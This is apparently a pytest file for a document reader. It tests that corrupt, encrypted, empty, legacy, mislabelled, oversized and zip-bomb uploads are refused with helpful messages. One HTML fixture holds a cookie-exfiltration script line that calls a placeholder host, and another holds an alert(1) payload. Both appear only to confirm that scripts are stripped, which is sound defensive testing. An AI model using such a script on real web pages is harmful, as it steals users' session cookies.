"""Files the readers refuse, each with a specific reason users can act on."""

from __future__ import annotations

import pytest

from ingest.document import DocumentError
from ingest.reader import read_document
from tests.office_files import (
    encrypted,
    make_docx,
    make_pptx,
    make_xlsx,
    many_members,
    zip_bomb,
)
from tests.pdfs import make_pdf


def refusal(data: bytes, name: str) -> DocumentError:
    with pytest.raises(DocumentError) as caught:
        read_document(data, name, max_bytes=50 * 1024 * 1024, max_pages=5000)
    return caught.value


def docx() -> bytes:
    return make_docx([("h1", "Leave"), ("p", "Employees get 25 days of leave.")])


def test_a_truncated_docx_is_corrupt():
    error = refusal(docx()[: len(docx()) // 2], "leave.docx")
    assert error.reason == "corrupt"
    assert "damaged or truncated" in str(error) and "leave.docx" in str(error)


def test_a_docx_with_a_broken_part_is_corrupt():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document><not xml")
    error = refusal(buffer.getvalue(), "broken.docx")
    assert error.reason == "corrupt" and "Word document" in str(error)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("salaries.xlsx", lambda: make_xlsx({"Pay": [["Name", "Salary"], ["Ann", 100]]})),
        ("contract.docx", docx),
        ("deck.pptx", lambda: make_pptx([("Secret", ["plan"])])),
    ],
)
def test_password_protected_office_files(name, data):
    error = refusal(encrypted(data()), name)
    assert error.reason == "password-protected"
    assert "password-protected" in str(error) and name in str(error)


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = zip_bomb()
    assert len(bomb) < 1024 * 1024  # small to upload, 64 MB unpacked
    error = refusal(bomb, "report.docx")
    assert error.reason == "too-large" and "too large when unpacked" in str(error)
    error = refusal(many_members(), "report.docx")
    assert error.reason == "too-large" and "too large when unpacked" in str(error)


def test_html_scripts_are_dropped_and_the_text_kept():
    page = b"<html><body><script>fetch('http://x/?'+document.cookie)</script><p>Visible text.</p>"
    document = read_document(page + b"<style>body{}</style></body></html>", "page.html")
    assert [p.text for p in document.pages] == ["Visible text."]


def test_an_html_page_of_only_code_has_no_text():
    error = refusal(b"<html><script>alert(1)</script><style>p{}</style></html>", "x.html")
    assert error.reason == "no-text"


@pytest.mark.parametrize("name", ["a.docx", "b.xlsx", "c.pptx", "d.html", "e.md", "f.txt", "g.csv"])
def test_empty_files(name):
    error = refusal(b"", name)
    assert error.reason == "empty" and "empty (0 bytes)" in str(error)


def test_whitespace_only_text_has_nothing_to_index():
    assert refusal(b"  \n\n\t ", "blank.txt").reason == "no-text"


@pytest.mark.parametrize("name", ["setup.exe", "photos.zip", "README"])
def test_unsupported_types_list_the_supported_ones(name):
    error = refusal(b"MZ\x90\x00 binary", name)
    assert error.reason == "unsupported-type"
    for suffix in (".pdf", ".docx", ".pptx", ".xlsx", ".csv", ".html", ".md", ".txt"):
        assert suffix in str(error)


@pytest.mark.parametrize(
    ("name", "modern"), [("a.doc", ".docx"), ("b.xls", ".xlsx"), ("c.ppt", ".pptx")]
)
def test_legacy_office_files_say_how_to_convert_them(name, modern):
    error = refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), name)
    assert error.reason == "legacy-format"
    assert f"save it as {modern}" in str(error)


def test_a_legacy_file_renamed_to_the_new_suffix():
    error = refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), "old.xlsx")
    assert error.reason == "legacy-format" and "save it as .xlsx" in str(error)


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        (
            "report.docx",
            lambda: make_xlsx({"S": [["a", "b"]]}),
            "is an Excel workbook; rename it to .xlsx",
        ),
        ("report.xlsx", docx, "is a Word document; rename it to .docx"),
        ("report.docx", lambda: make_pdf(["Some text."]), "is a PDF; rename it to .pdf"),
        ("notes.md", lambda: make_pdf(["Some text."]), "is a PDF; rename it to .pdf"),
        ("notes.txt", lambda: bytes(range(256)) * 4, "binary data"),
        ("page.html", lambda: b"\x89PNG\r\n\x1a\n" + bytes(64), "a PNG image"),
        ("slides.pptx", lambda: b"just text, renamed", "is not a PowerPoint presentation"),
        ("archive.docx", lambda: _plain_zip(), "a ZIP archive that holds no Office document"),
    ],
)
def test_content_that_does_not_match_the_name(name, data, says):
    error = refusal(data(), name)
    assert error.reason == "content-does-not-match-name"
    assert says in str(error) and name in str(error)


def test_an_office_file_named_pdf_is_refused_as_before():
    error = refusal(docx(), "leave.pdf")
    assert error.reason == "not-a-pdf" and "Office file" in str(error)


def test_too_many_pages():
    rows = [["Name", "Amount"]] + [[f"Person {i}", i] for i in range(400)]
    with pytest.raises(DocumentError) as caught:
        read_document(make_xlsx({"Big": rows}), "big.xlsx", max_pages=3, block_chars=300)
    assert caught.value.reason == "too-large" and "the limit is 3" in str(caught.value)


def test_too_many_bytes():
    with pytest.raises(DocumentError) as caught:
        read_document(b"x" * 2000, "big.txt", max_bytes=1000)
    assert caught.value.reason == "too-large"


def _plain_zip() -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.txt", "not an office document")
    return buffer.getvalue()
